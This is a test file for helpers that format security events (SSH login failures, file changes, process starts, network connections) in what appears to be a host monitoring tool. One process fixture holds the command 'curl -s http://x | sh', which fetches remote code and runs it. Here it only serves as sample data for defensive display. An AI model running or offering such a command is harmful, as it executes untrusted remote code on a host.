import { describe, expect, it } from "vitest";
import { fieldRows, keyFields, summaryLine } from "./summary";

describe("summaryLine", () => {
  it("shows a log line's message", () => {
    const line = "Failed password for root from 203.0.113.9 port 52144 ssh2";
    expect(summaryLine({ type: "log", data: { message: line, "source.ip": "203.0.113.9" } })).toBe(line);
  });

  it("shows a file change as action and path", () => {
    expect(summaryLine({ type: "fim", data: { "event.action": "modified", "file.path": "/etc/passwd" } })).toBe(
      "modified /etc/passwd",
    );
    expect(summaryLine({ type: "fim.batch", data: { "fim.count": 340, "file.directory": "/usr/lib" } })).toBe(
      "340 changes under /usr/lib",
    );
  });

  it("shows a process start as its command line, else its executable", () => {
    expect(
      summaryLine({ type: "process.start", data: { "process.command_line": "curl -s http://x | sh", "process.name": "curl" } }),
    ).toBe("curl -s http://x | sh");
    expect(summaryLine({ type: "process.start", data: { "process.executable": "/usr/bin/nc" } })).toBe("/usr/bin/nc");
  });

  it("shows a connection as who talked to whom", () => {
    expect(
      summaryLine({
        type: "network.connection",
        data: {
          "network.direction": "outbound",
          "network.transport": "tcp",
          "source.ip": "10.0.0.5",
          "source.port": 40222,
          "destination.ip": "2001:db8::1",
          "destination.port": 443,
          "process.name": "curl",
        },
      }),
    ).toBe("outbound tcp 10.0.0.5:40222 → [2001:db8::1]:443 (curl)");
  });

  it("falls back to a few fields for other types, leaving out the ones every event has", () => {
    expect(
      summaryLine({
        type: "package.installed",
        data: { "agent.id": "a", "event.type": "package.installed", "package.name": "nmap", "package.version": "7.93" },
      }),
    ).toBe("package.name=nmap package.version=7.93");
  });

  it("shortens long values in the fallback (inventory snapshots hold whole lists)", () => {
    const items = Array.from({ length: 50 }, (_, i) => ({ name: `user${i}` }));
    const line = summaryLine({ type: "inventory.snapshot", data: { items: items, section: "users" } });
    expect(line.length).toBeLessThan(120);
    expect(line).toMatch(/^items=\[.*…/);
  });
});

describe("keyFields", () => {
  it("adds the fields worth a glance that the summary line does not already show", () => {
    const event = {
      type: "log",
      data: {
        message: "Failed password for root from 203.0.113.9 port 52144 ssh2",
        "event.outcome": "failure",
        "user.name": "root",
        "source.ip": "203.0.113.9",
      },
    };
    expect(keyFields(event)).toEqual([["event.outcome", "failure"]]);
  });
});

describe("fieldRows", () => {
  it("lists every field sorted by name, as text", () => {
    expect(fieldRows({ "z.last": 1, "a.first": "x", empty: "", none: null, list: [{ a: 1 }] })).toEqual([
      ["a.first", "x"],
      ["empty", ""],
      ["list", '[{"a":1}]'],
      ["none", "null"],
      ["z.last", "1"],
    ]);
    expect(fieldRows(null)).toEqual([]);
  });
});
